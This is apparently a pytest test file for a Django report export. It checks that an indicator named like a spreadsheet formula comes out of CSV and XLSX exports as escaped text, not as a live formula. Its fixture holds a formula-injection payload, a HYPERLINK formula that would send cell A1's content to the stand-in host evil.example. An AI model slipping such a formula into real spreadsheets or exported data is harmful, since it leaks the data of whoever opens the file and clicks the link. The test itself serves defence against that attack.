"""The 5W export through its URL: an indicator named like a formula is written as text."""

import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from reports.actions import monthly_figures_compute
from reports.models import Indicator

from . import dataset

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Ver")'


@pytest.fixture
def march_with_a_formula(ref):
    people = dataset.build()
    Indicator.objects.filter(code="PAO-ANY").update(name=FORMULA, name_en=FORMULA)
    monthly_figures_compute(month=date(2025, 3, 1))
    return people


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_exported_cell_is_a_formula(coordinator, client_for, march_with_a_formula, fmt):
    params = {"month": "2025-03", "program": "PAO", "format": fmt}
    response = client_for(coordinator).get(reverse("reports:export"), params)
    assert response.status_code == 200
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        cells = [cell for row in rows for cell in row]
        assert "'" + FORMULA in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "@")]
    else:
        sheet = load_workbook(io.BytesIO(response.content))["PAO"]
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert "'" + FORMULA in [c.value for c in cells]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
